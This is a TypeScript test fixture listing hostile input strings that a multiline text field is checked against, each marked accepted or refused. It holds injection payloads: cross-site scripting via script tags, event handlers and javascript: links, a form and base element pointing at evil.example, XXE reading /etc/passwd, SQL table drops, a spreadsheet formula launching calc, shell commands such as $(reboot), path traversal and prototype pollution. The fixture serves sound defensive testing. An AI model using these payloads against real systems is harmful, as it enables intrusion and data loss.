/** Texts that run code, break markup or hide something unless they are escaped. */
interface HostileText {
  name: string
  text: string
  /** True if a multiline field accepts it unchanged: a text that can be shown harmlessly is not refused. */
  accepted: boolean
}

const accepted = (name: string, text: string): HostileText => ({ name, text, accepted: true })
const refused = (name: string, text: string): HostileText => ({ name, text, accepted: false })

/** Code that sets a variable, which the tests look for, and opens a dialog. */
const RUN = 'window.hostile=1;alert(1)'

export const hostileTexts: HostileText[] = [
  accepted('a script', `I rest. <script>${RUN}</script>`),
  accepted('an image that fails to load', `<img src=x onerror="${RUN}"> I rest.`),
  accepted('a drawing', `<svg/onload='${RUN}'><animate onbegin=${RUN} attributeName=x> I rest.`),
  accepted('the end of an attribute', `"><b onmouseover="${RUN}" autofocus onfocus="${RUN}">I rest.</b>`),
  accepted('the end of an attribute in single quotes', `' autofocus onfocus='${RUN}' x='`),
  accepted('the end of a JSON-LD script', `</script><script>${RUN}</script>{"@type":"Thing"}`),
  accepted('a comment that is not closed', `I rest. <!--<script>${RUN}//--> <!-- ]]> <![CDATA[`),
  accepted('the end of a title and of a style', `</title></style></textarea><script>${RUN}</script>`),
  accepted(
    'a frame and a base element',
    `<base href=//evil.example><iframe srcdoc="<script>${RUN}</script>"></iframe> I rest.`
  ),
  accepted(
    'a form over the page',
    `<form action=//evil.example style="position:fixed;inset:0"><input name=q></form> I rest.`
  ),
  accepted('a meta refresh', `<meta http-equiv=refresh content="0;url=javascript:${RUN}"> I rest.`),
  accepted('a javascript: address', `[I rest](javascript:${RUN}) *javascript:${RUN}* [@wood2009]`),
  accepted('entities', '&lt;script&gt; &amp;amp; &#60;b&#62; &notit; I rest.'),
  accepted('XML', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x> ]]> <?php phpinfo() ?>'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is test input.
  accepted('templates', '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7} {% raw %} $& $1 $`'),
  accepted('SQL', `'; DROP TABLE "Affirmation"; -- ' OR '1'='1' /* "); DELETE FROM Subscriber; */`),
  accepted('a formula', `=cmd|' /C calc'!A0 +1-1 @SUM(1;1)`),
  accepted('headers of an e-mail', 'I rest.\r\nBcc: everyone@example.org\r\nSubject: hello\r\n\r\n.\r\nQUIT'),
  accepted('paths', '../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd %2e%2e%2f%00'),
  accepted('printf and shell', '%s%n%x $(reboot) `reboot` ; reboot | reboot && reboot > /etc/passwd'),
  accepted('prototypes', '__proto__ constructor hasOwnProperty toString {"__proto__":{"admin":true}}'),
  accepted('one very long word', `I ${'re'.repeat(240)}st.`),
  accepted('one very long word of emoji', '🙂'.repeat(240)),
  accepted('a family of emoji', 'We rest 👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍🚀 1️⃣ 🇺🇸.'),
  accepted('right-to-left text', 'أنا أستريح 123 <b>الآن</b>. I rest, שלום (ok).'),
  accepted(
    'stacked combining marks',
    `I ${[...'rest'].map((letter) => letter + '\u0300\u0316\u034a\u0489'.repeat(14)).join('')}.`
  ),
  accepted('zero-width spaces', 'I\u200b re\u200dst\u2060, and\u00ad soft.'),
  accepted('odd spaces and dashes', 'I\u00a0rest\u2003–\u2028now\u2029and\u3000then ‐‑‒–—―'),
  accepted('other scripts', '静かに息をする。 Ж ћ ß ﬁ Ǆ İi ıI ẞ ΐ 𝕀 𝓻𝓮𝓼𝓽 ① Ⅷ.'),
  refused('terminal escapes', 'I rest \u001b[2J\u001b[31m\u001b]0;owned\u0007\u009b31m.'),
  refused('NUL', 'I rest\u0000.'),
  refused('a backspace', 'I rest\b\b\b\bwork.'),
  refused('direction overrides', 'I rest \u202egnp.exe\u202c \u2066now\u2069.'),
  refused('a byte order mark', '\ufeffI\ufeff rest.'),
  refused('a lone surrogate', 'I rest \ud83d.'),
  refused('noncharacters', 'I rest \uffff\ufffe.'),
  refused('only invisible characters', '\u200b\u2060\u00ad\u3164\u034f')
]
